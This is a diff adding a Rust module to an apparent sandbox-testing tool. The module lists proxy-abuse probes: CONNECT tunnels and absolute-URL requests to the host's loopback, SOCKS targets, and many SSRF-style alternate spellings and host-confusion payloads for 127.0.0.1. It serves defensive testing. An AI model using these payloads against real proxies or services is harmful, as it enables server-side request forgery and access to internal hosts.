@@ -1,0 +1,341 @@
+//! What a proxy of the environment may be talked into without any grant: tunnels, other hosts, and spellings of the host's
+//! loopback that its checks don't know.
+//!
+//! The same bytes are said to the origin itself, as a program does that ignores proxies. What is asked for is granted nowhere.
+
+use crate::attempt::{Attempt, Radius, Run};
+use crate::classes::{Class, class};
+use crate::finding::Finding;
+use crate::inside::knock::{ORIGIN, Piece, by_proxy, by_socks, heard, pieces, socks_loopback, socks_name};
+use crate::plants::{PlantError, Plants};
+use crate::witness::Witness;
+
+pub(crate) const ATTEMPTS: &[Attempt] = &[
+    proxied(
+        "proxy-connect-address",
+        "Has the proxy open a tunnel to the host's loopback.",
+        "attacks 11",
+        |plants| tunnel(plants, "proxy-connect-address", "127.0.0.1"),
+        |host| heard(host, "proxy-connect-address"),
+    ),
+    proxied(
+        "proxy-connect-name",
+        "Has it open one to localhost.",
+        "attacks 11",
+        |plants| tunnel(plants, "proxy-connect-name", "localhost"),
+        |host| heard(host, "proxy-connect-name"),
+    ),
+    proxied(
+        "proxy-connect-v6",
+        "Has it open one to the IPv6 loopback.",
+        "attacks 11",
+        |plants| tunnel(plants, "proxy-connect-v6", "[::ffff:127.0.0.1]"),
+        |host| heard(host, "proxy-connect-v6"),
+    ),
+    proxied(
+        "proxy-connect-relayed",
+        "Has it open one to itself, and by that one to the loopback.",
+        "attacks 11",
+        relayed,
+        |host| heard(host, "proxy-connect-relayed"),
+    ),
+    proxied(
+        "proxy-connect-plain",
+        "Speaks another protocol than TLS through a tunnel.",
+        "attacks 11",
+        |plants| {
+            let said =
+                ["CONNECT 127.0.0.1:PORT HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n", "SSH-2.0-MARK\r\n"];
+            waiting(plants, "proxy-connect-plain", &said)
+        },
+        |host| heard(host, "proxy-connect-plain"),
+    ),
+    proxied(
+        "proxy-absolute-address",
+        "Asks the proxy for a page at the host's loopback.",
+        "attacks 11",
+        |plants| page(plants, "proxy-absolute-address", "127.0.0.1:PORT"),
+        |host| heard(host, "proxy-absolute-address"),
+    ),
+    proxied(
+        "proxy-absolute-name",
+        "Asks it for a page at localhost.",
+        "attacks 11",
+        |plants| page(plants, "proxy-absolute-name", "localhost:PORT"),
+        |host| heard(host, "proxy-absolute-name"),
+    ),
+    proxied(
+        "proxy-absolute-other-host",
+        "Asks it for a page at the loopback, and names a public host.",
+        "attacks 11",
+        |plants| {
+            let said = [
+                "GET http://127.0.0.1:PORT/closed/MARK HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n",
+            ];
+            by_proxy(
+                plants,
+                "proxy-absolute-other-host",
+                &pieces(plants, "proxy-absolute-other-host", &said)?,
+            )
+        },
+        |host| heard(host, "proxy-absolute-other-host"),
+    ),
+    proxied(
+        "proxy-absolute-post",
+        "Posts to the loopback by the proxy.",
+        "attacks 11",
+        |plants| {
+            let said = [
+                "POST http://127.0.0.1:PORT/closed HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nContent-Length: 512\r\nConnection: close\r\n\r\n",
+                "MARK",
+            ];
+            by_proxy(plants, "proxy-absolute-post", &pieces(plants, "proxy-absolute-post", &said)?)
+        },
+        |host| heard(host, "proxy-absolute-post"),
+    ),
+    proxied(
+        "socks-address",
+        "Has a SOCKS proxy connect to the host's loopback.",
+        "attacks 13",
+        |plants| socks(plants, "socks-address", &socks_loopback()),
+        |host| heard(host, "socks-address"),
+    ),
+    proxied(
+        "socks-name",
+        "Has it connect to localhost.",
+        "attacks 13",
+        |plants| socks(plants, "socks-name", &socks_name("localhost")),
+        |host| heard(host, "socks-name"),
+    ),
+    proxied(
+        "socks-name-nul",
+        "Has it connect to a name with a zero byte.",
+        "attacks 10",
+        |plants| socks(plants, "socks-name-nul", &socks_name("127.0.0.1\0.example.com")),
+        |host| heard(host, "socks-name-nul"),
+    ),
+    proxied(
+        "socks-name-number",
+        "Has it connect to a name that is a number.",
+        "attacks 10",
+        |plants| socks(plants, "socks-name-number", &socks_name("2130706433")),
+        |host| heard(host, "socks-name-number"),
+    ),
+    proxied(
+        "spelling-decimal",
+        "Names the loopback by one decimal number.",
+        "attacks 10",
+        |plants| page(plants, "spelling-decimal", "2130706433:PORT"),
+        |host| heard(host, "spelling-decimal"),
+    ),
+    proxied(
+        "spelling-hexadecimal",
+        "Names it by a hexadecimal number.",
+        "attacks 10",
+        |plants| page(plants, "spelling-hexadecimal", "0x7f000001:PORT"),
+        |host| heard(host, "spelling-hexadecimal"),
+    ),
+    proxied(
+        "spelling-octal",
+        "Names it by octal numbers.",
+        "attacks 10",
+        |plants| page(plants, "spelling-octal", "0177.0.0.1:PORT"),
+        |host| heard(host, "spelling-octal"),
+    ),
+    proxied(
+        "spelling-short",
+        "Names it by two numbers of four.",
+        "attacks 10",
+        |plants| page(plants, "spelling-short", "127.1:PORT"),
+        |host| heard(host, "spelling-short"),
+    ),
+    proxied(
+        "spelling-mapped",
+        "Names it as an IPv4 address in an IPv6 one.",
+        "attacks 10",
+        |plants| page(plants, "spelling-mapped", "[::ffff:7f00:1]:PORT"),
+        |host| heard(host, "spelling-mapped"),
+    ),
+    proxied(
+        "spelling-zero",
+        "Names it as zero.",
+        "attacks 10",
+        |plants| page(plants, "spelling-zero", "0:PORT"),
+        |host| heard(host, "spelling-zero"),
+    ),
+    proxied(
+        "spelling-full-width",
+        "Names it by digits of another alphabet.",
+        "attacks 10",
+        |plants| page(plants, "spelling-full-width", "１２７.0.0.1:PORT"),
+        |host| heard(host, "spelling-full-width"),
+    ),
+    proxied(
+        "confusion-user",
+        "Writes a public host before it, as a user.",
+        "attacks 10",
+        |plants| page(plants, "confusion-user", "NAME:80@127.0.0.1:PORT"),
+        |host| heard(host, "confusion-user"),
+    ),
+    proxied(
+        "confusion-encoded-nul",
+        "Writes a public host behind an encoded zero byte.",
+        "attacks 10",
+        |plants| page(plants, "confusion-encoded-nul", "127.0.0.1%00.NAME:PORT"),
+        |host| heard(host, "confusion-encoded-nul"),
+    ),
+    proxied(
+        "confusion-fragment",
+        "Writes it before a fragment with a public host.",
+        "attacks 10",
+        |plants| page(plants, "confusion-fragment", "127.0.0.1:PORT#@NAME"),
+        |host| heard(host, "confusion-fragment"),
+    ),
+    proxied(
+        "confusion-backslash",
+        "Writes it before a backslash and a public host.",
+        "attacks 10",
+        |plants| page(plants, "confusion-backslash", "127.0.0.1:PORT\\@NAME"),
+        |host| heard(host, "confusion-backslash"),
+    ),
+    proxied(
+        "confusion-zone",
+        "Writes a zone behind it.",
+        "attacks 10",
+        |plants| page(plants, "confusion-zone", "[::1%25lo]:PORT"),
+        |host| heard(host, "confusion-zone"),
+    ),
+    proxied(
+        "confusion-dot",
+        "Writes a dot behind its name.",
+        "attacks 10",
+        |plants| page(plants, "confusion-dot", "LOCALHOST.:PORT"),
+        |host| heard(host, "confusion-dot"),
+    ),
+    proxied(
+        "confusion-subdomain",
+        "Names a host below localhost.",
+        "attacks 10",
+        |plants| page(plants, "confusion-subdomain", "NAME.localhost:PORT"),
+        |host| heard(host, "confusion-subdomain"),
+    ),
+];
+
+pub(crate) const CLASSES: &[Class] = &[
+    class(
+        "proxy-tunnels",
+        11,
+        &[
+            "proxy-connect-address",
+            "proxy-connect-name",
+            "proxy-connect-v6",
+            "proxy-connect-relayed",
+            "proxy-connect-plain",
+        ],
+    ),
+    class(
+        "proxy-pages",
+        11,
+        &[
+            "proxy-absolute-address",
+            "proxy-absolute-name",
+            "proxy-absolute-other-host",
+            "proxy-absolute-post",
+        ],
+    ),
+    class("socks", 13, &["socks-address", "socks-name", "socks-name-nul", "socks-name-number"]),
+    class(
+        "address-spellings",
+        10,
+        &[
+            "spelling-decimal",
+            "spelling-hexadecimal",
+            "spelling-octal",
+            "spelling-short",
+            "spelling-mapped",
+            "spelling-zero",
+            "spelling-full-width",
+        ],
+    ),
+    class(
+        "host-confusion",
+        10,
+        &[
+            "confusion-user",
+            "confusion-encoded-nul",
+            "confusion-fragment",
+            "confusion-backslash",
+            "confusion-zone",
+            "confusion-dot",
+            "confusion-subdomain",
+        ],
+    ),
+];
+
+const fn proxied(
+    id: &'static str,
+    sentence: &'static str,
+    source: &'static str,
+    run: Run,
+    witness: Witness,
+) -> Attempt {
+    Attempt::forbidden(id, sentence, source, run).of(Radius::Exfiltration).needs(ORIGIN).witnessed(witness)
+}
+
+/// A request for a page that nothing grants, in the form that proxies are asked in.
+fn page(plants: &Plants, id: &str, place: &str) -> Result<Finding, PlantError> {
+    let request =
+        format!("GET http://{place}/closed/MARK HTTP/1.1\r\nHost: {place}\r\nConnection: close\r\n\r\n");
+    by_proxy(plants, id, &pieces(plants, id, &[&request])?)
+}
+
+/// A tunnel, and a request in it.
+fn tunnel(plants: &Plants, id: &str, host: &str) -> Result<Finding, PlantError> {
+    let connect = format!("CONNECT {host}:PORT HTTP/1.1\r\nHost: {host}:PORT\r\n\r\n");
+    let request = format!("GET /closed/MARK HTTP/1.1\r\nHost: {host}:PORT\r\nConnection: close\r\n\r\n");
+    waiting(plants, id, &[&connect, &request])
+}
+
+/// The second tunnel is asked for in the first, which leads to the proxy itself.
+fn relayed(plants: &Plants) -> Result<Finding, PlantError> {
+    let itself =
+        crate::inside::ways::proxy().map_or_else(|| "127.0.0.1:PORT".to_owned(), |way| way.to.to_string());
+    let first = format!("CONNECT {itself} HTTP/1.1\r\nHost: {itself}\r\n\r\n");
+    let second = "CONNECT 127.0.0.1:PORT HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n";
+    let request = "GET /closed/MARK HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nConnection: close\r\n\r\n";
+    waiting(plants, "proxy-connect-relayed", &[&first, second, request])
+}
+
+/// Each text waits for an answer to the one before it.
+fn waiting(plants: &Plants, id: &str, texts: &[&str]) -> Result<Finding, PlantError> {
+    let said = pieces(plants, id, texts)?;
+    by_proxy(plants, id, &said.into_iter().flat_map(|piece| [piece, Piece::Wait]).collect::<Vec<_>>())
+}
+
+fn socks(plants: &Plants, id: &str, target: &[u8]) -> Result<Finding, PlantError> {
+    let request = "GET /closed/MARK HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nConnection: close\r\n\r\n";
+    by_socks(plants, id, target, &pieces(plants, id, &[request])?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inside::knock::tests::scene;
+
+    #[test]
+    fn outside_each_reaches_the_origin_and_is_heard() {
+        let scene = scene();
+        for attempt in ATTEMPTS {
+            assert!(scene.witnessed(attempt).is_some(), "{}", attempt.id);
+        }
+    }
+
+    #[test]
+    fn what_the_origin_did_not_get_is_not_reached() {
+        let mut scene = scene();
+        // Nobody listens at port 1 of the loopback.
+        scene.plants.add("origin-port", "1").unwrap();
+        let attempt = ATTEMPTS.first().unwrap();
+        assert!(matches!(attempt.find(&scene.plants), Finding::Refused(..) | Finding::Held(_)));
+    }
+}
